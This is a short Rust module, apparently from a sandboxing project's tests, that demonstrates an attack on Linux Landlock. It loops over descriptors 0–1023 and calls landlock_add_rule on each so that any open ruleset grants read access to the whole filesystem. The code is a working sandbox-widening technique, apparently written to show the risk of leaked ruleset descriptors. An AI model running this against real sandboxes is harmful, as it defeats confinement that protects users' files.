//! The attack that an open ruleset invites: code that is restricted adds a rule to it.
#![allow(unsafe_code)]

use rustix::fs::{Mode, OFlags};
use std::io;
use std::os::fd::{AsRawFd as _, RawFd};

/// `struct landlock_path_beneath_attr`.
#[repr(C, packed)]
struct PathBeneath {
    allowed_access: u64,
    parent_fd: i32,
}

/// `LANDLOCK_RULE_PATH_BENEATH`.
const RULE_PATH_BENEATH: libc::c_int = 1;
/// `LANDLOCK_ACCESS_FS_READ_FILE` and `_READ_DIR`.
const READ: u64 = 1 << 2 | 1 << 3;

/// Lets every ruleset that is open below descriptor 1024 read everything, and counts them.
///
/// # Errors
///
/// Where `/` cannot be opened to name it, which no sandbox denies.
pub fn widen_every_open_ruleset() -> io::Result<usize> {
    let root = rustix::fs::open("/", OFlags::PATH | OFlags::CLOEXEC, Mode::empty())?;
    let rule = PathBeneath { allowed_access: READ, parent_fd: root.as_raw_fd() };
    let widen = |descriptor: &RawFd| {
        // SAFETY: the kernel reads the rule, which is laid out as its header says, and checks the number, which may be of
        // anything or of nothing. It changes nothing but a ruleset.
        unsafe {
            libc::syscall(libc::SYS_landlock_add_rule, *descriptor, RULE_PATH_BENEATH, std::ptr::from_ref(&rule), 0)
                == 0
        }
    };
    Ok((0..1024).filter(widen).count())
}
